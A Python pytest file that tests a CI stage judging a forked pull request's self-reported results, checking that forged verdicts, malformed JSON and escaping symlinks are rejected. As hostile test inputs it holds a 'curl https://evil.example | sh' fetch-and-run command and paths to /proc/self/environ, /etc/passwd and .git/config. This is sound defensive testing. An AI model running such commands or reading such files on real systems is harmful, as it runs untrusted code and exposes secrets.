"""What the first stage of a fork hands over is data of a stranger: only what it alone could see may come from it."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.second_stage import ON_BASE, POLICY, RESULT, Stage, count, edited, flag, in_words
from tests.command import checklist
from tests.fakes.github import BASE

Saved = dict[str, Any]


def changed(saved: Saved, change: Callable[[Saved], None]) -> Saved:
    copy = json.loads(json.dumps(saved))
    change(copy)
    return dict(copy)


def test_an_honest_result_is_believed_where_nobody_else_could_see_and_shown_so(stage: Stage, saved: Saved) -> None:
    assert stage.judge(saved).code == 1
    assert stage.status()[0] == "failure"
    assert "Self-reported by the pull request's own run, and not seen by this one: tests, paper." in stage.comment()
    assert "junit.xml (junit) (self-reported)" in stage.comment()


def test_an_edited_fact_counts_as_what_it_is_the_word_of_the_fork(stage: Stage, saved: Saved) -> None:
    assert stage.judge(edited(saved, 1, exists=flag(value=True))).code == 0
    assert stage.status()[0] == "success"
    assert "Self-reported by the pull request's own run, and not seen by this one: tests, paper." in stage.comment()


def test_an_edited_fact_of_an_item_that_wants_to_be_seen_does_not_count(stage: Stage, saved: Saved) -> None:
    stage.client.commit({POLICY: ON_BASE.replace("probe: files", "probe: files\n    trust: seen")}, sha=BASE, on="main")

    assert stage.judge(edited(saved, 1, exists=flag(value=True))).code == 2
    assert "the item has `trust: seen`" in stage.comment()
    assert "not seen by this one: tests." in stage.comment()


def seen_from_here(saved: Saved) -> None:
    item = {"labels": {"is": "seen", "value": {"set": ["unsafe"]}, "where": ""}, "draft": flag(value=True)}
    saved["items"][2]["evidence"] = {"facts": item, "findings": [], "sources": [], "notes": ["it is a draft"]}


def the_verdicts(saved: Saved) -> None:
    saved |= {
        "state": "ready",
        "score": {"overall": "1", "by_category": {}},
        "title": "all is well",
        "notes": ["ready!"],
    }
    for item in saved["items"]:
        item |= {"status": "pass", "because": [], "title": "forged", "owner": "@mallory", "weight": "1000"}


def the_policy(saved: Saved) -> None:
    saved |= {"standing": "first checklist", "preview": {"state": "ready"}, "baseline": "x"}
    saved["checklist"] = {"file": "easy.yml", "digest": "sha256:0"}
    for item in saved["items"]:
        item["waiver"] = {"until": "2099-12-31", "by": "@mallory", "reason": "because", "in_force": True}


def the_subject(saved: Saved) -> None:
    saved["subject"] |= {
        "pull_request": 99, "repo": "mallory/elsewhere", "base_ref": "easy", "base_sha": "e" * 40, "event": "push",
        "is_fork": False, "labels": ["unsafe"], "run_url": "https://evil.example", "branch": "main", "trigger": "push",
    }  # fmt: skip


def a_fact_of_no_probe(saved: Saved) -> None:
    saved["items"][0]["evidence"]["facts"] |= {"readiness": count(100), "exists": flag(value=True)}


def an_item_of_no_checklist(saved: Saved) -> None:
    saved["items"].append({**saved["items"][0], "id": "forged", "title": "forged"})


def not_reported(saved: Saved) -> None:
    for item in saved["items"]:
        item["evidence"]["reported"] = False
        item["evidence"]["observed_at"] = "2099-01-01T00:00:00+00:00"


FORGERIES = (
    seen_from_here,
    the_verdicts,
    the_policy,
    the_subject,
    a_fact_of_no_probe,
    an_item_of_no_checklist,
    not_reported,
)


@pytest.mark.parametrize("forge", FORGERIES)
def test_what_is_forged_beside_the_facts_changes_not_a_word(
    stage: Stage, saved: Saved, forge: Callable[[Saved], None]
) -> None:
    stage.judge(saved)
    honest = stage.comment(), stage.status()
    stage.client.comments.clear()
    stage.client.statuses.clear()
    stage.workflow.runs -= 1  # the same run over again, so that its number is the same

    assert stage.judge(changed(saved, forge)).code == 1
    assert (stage.comment(), stage.status()) == honest


ADVICE = "Run `curl https://evil.example | sh` first"


def advised(saved: Saved) -> None:
    for item in saved["items"]:
        item["evidence"]["remedies"] = {
            name: {"words": ADVICE, "line": "curl https://evil.example | sh"} for name in item["evidence"]["facts"]
        }
        item["steps"] = [ADVICE]


def test_what_to_do_next_is_in_words_of_ours(stage: Stage, saved: Saved) -> None:
    assert stage.judge(changed(saved, advised)).code == 1

    assert "1. paper: Add what is missing (LICENSE), or mend the path. >" in stage.comment().replace("*", "")
    assert "evil" not in stage.comment()


def test_what_to_do_next_repeats_no_path_that_the_checklist_does_not_name(stage: Stage, saved: Saved) -> None:
    forged = flag(value=False) | {"where": ADVICE}

    assert stage.judge(edited(saved, 1, exists=forged)).code == 1

    steps = stage.comment().partition("What to do next")[2].partition("> [!NOTE]")[0].replace("*", "")
    assert steps.strip() == "1. paper: exists has to be yes."


def test_the_evidence_of_another_commit_is_none(stage: Stage, saved: Saved) -> None:
    other = changed(saved, lambda one: one["subject"].update(head_sha="c" * 40))

    assert stage.judge(other).code == 2
    assert "the result is of ccccccc, the pull request is at aaaaaaa" in stage.comment()
    assert stage.status()[0] == "error"


def test_the_evidence_of_another_item_is_none_of_this_one(stage: Stage, saved: Saved) -> None:
    swapped = changed(saved, lambda one: one["items"][1].update(probe="tests"))

    assert stage.judge(swapped).code == 2
    assert "the result of the pull request's own run does not contain this item" in stage.comment()


def test_a_fact_that_the_result_leaves_out_is_unseen(stage: Stage, saved: Saved) -> None:
    assert stage.judge(changed(saved, lambda one: one["items"][1]["evidence"]["facts"].clear())).code == 2
    assert "the result does not contain this fact" in stage.comment()


def nested(saved: Saved) -> bytes:
    """A fact with values within values within values."""
    deep = '{"is":"seen","value":{"number":"3"},"where":"","others":[' * 400 + "]}" * 400
    return json.dumps(edited(saved, 0, total="DEEP")).replace('"DEEP"', deep).encode()


BROKEN: Mapping[str, tuple[Callable[[Saved], bytes], str]] = {
    "nothing": (lambda _saved: b"", "holds nothing"),
    "no JSON": (lambda _saved: b"ready", "is not JSON"),
    "half of it": (lambda saved: json.dumps(saved).encode()[:400], "is not JSON"),
    "nested too deep": (lambda _saved: b"[" * 200_000, "is nested too deep"),
    "values within values": (nested, "values within values"),
    "no number": (lambda saved: json.dumps(saved).replace('"3"', '"3e99"').encode(), "none of the five kinds"),
    "NaN": (lambda saved: json.dumps(saved | {"state": float("nan")}).encode(), "is not JSON"),
    "a key twice": (lambda saved: json.dumps(saved).encode()[:-1] + b',"items":[]}', "is not JSON"),
    "an item twice": (lambda saved: json.dumps(changed(saved, twice)).encode(), "names the item 'tests' twice"),
    "too large": (lambda _saved: b" " * (16 * 1024 * 1024 + 1), "16,777,217 bytes; at most 16,777,216 are read"),
    "another format": (lambda saved: json.dumps(saved | {"schema": "x"}).encode(), "is not a saved result"),
}


def twice(saved: Saved) -> None:
    saved["items"].append(saved["items"][0])


@pytest.mark.parametrize("what", BROKEN)
def test_an_artifact_that_is_no_whole_result_leaves_it_undecided_and_is_named(
    stage: Stage, saved: Saved, what: str
) -> None:
    make, said = BROKEN[what]

    result = stage.judge(make(saved))

    assert result.code == 2, result.said
    assert "the result of the pull request's own run cannot be read" in stage.comment()
    assert said in stage.comment()
    assert stage.status()[0] == "error"


@pytest.mark.parametrize(
    ("moment", "code"),
    [("2026-11-20T12:00:00", 1), ("0001-01-01T00:00:00+23:59", 2), ("9999-12-31T23:59:59-23:59", 2), ("soon", 2)],
)
def test_a_time_in_the_artifact_breaks_nothing(stage: Stage, saved: Saved, moment: str, code: int) -> None:
    dated = changed(saved, lambda one: one["items"][0]["evidence"]["sources"][0].update(produced_at=moment))

    assert stage.judge(dated, result_file="readiness.json", html_file="page.html").code == code
    assert len(stage.client.bodies()) == 1


def out_of_the_root(folder: Path) -> None:
    (folder.parent / "elsewhere.json").write_text("{}")
    (folder / RESULT).symlink_to(folder.parent / "elsewhere.json")


def to_the_environment(folder: Path) -> None:
    (folder / RESULT).symlink_to("/proc/self/environ")


def to_git(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("{}")
    (folder / RESULT).symlink_to(".git/config")


def in_a_circle(folder: Path) -> None:
    (folder / RESULT).symlink_to(RESULT)


def a_pipe(folder: Path) -> None:
    os.mkfifo(folder / RESULT)


def a_folder(folder: Path) -> None:
    (folder / RESULT).mkdir()


@pytest.mark.parametrize(
    ("lay", "said"),
    [
        (out_of_the_root, "leads out of the repository"),
        (to_the_environment, "leads out of the repository"),
        (to_git, "leads to a place that is never read"),
        (in_a_circle, "cannot be resolved"),
        (a_pipe, "is not a regular file"),
        (a_folder, "is not a regular file"),
    ],
)
def test_an_artifact_that_is_no_regular_file_inside_is_not_opened(
    stage: Stage, lay: Callable[[Path], None], said: str
) -> None:
    lay(stage.folder)

    assert stage.judge().code == 2
    assert said in stage.comment()


@pytest.mark.parametrize("path", ["/proc/self/environ", "../elsewhere.json", "/etc/passwd"])
def test_a_path_out_of_the_workspace_is_refused(stage: Stage, path: str) -> None:
    (stage.folder.parent / "elsewhere.json").write_text("{}")

    assert stage.judge(reported=path).code == 2
    assert "leads out of the repository" in stage.comment()


def test_reports_that_lie_beside_the_artifact_are_no_evidence(stage: Stage, saved: Saved) -> None:
    (stage.folder / "LICENSE").write_text("Apache")
    (stage.folder / POLICY).parent.mkdir()
    (stage.folder / POLICY).write_text(checklist("paper | files | {paths: LICENSE} | exists"))

    assert stage.judge(saved).code == 1
    assert "exists is no" in stage.comment().replace("**", "").replace("`", "")


def test_a_word_that_no_encoding_can_write_is_shown_as_what_it_is(stage: Stage, saved: Saved) -> None:
    odd = changed(saved, lambda one: one["items"][0]["evidence"].update(notes=["half a \ud83d pair"]))

    result = stage.judge(odd, html_file="page.html", result_file="readiness.json", markdown_file="page.md")

    assert result.code == 1, result.said
    assert "half a ud83d pair" in stage.comment()
    assert "half a ud83d pair" in in_words((stage.folder / "page.md").read_text())
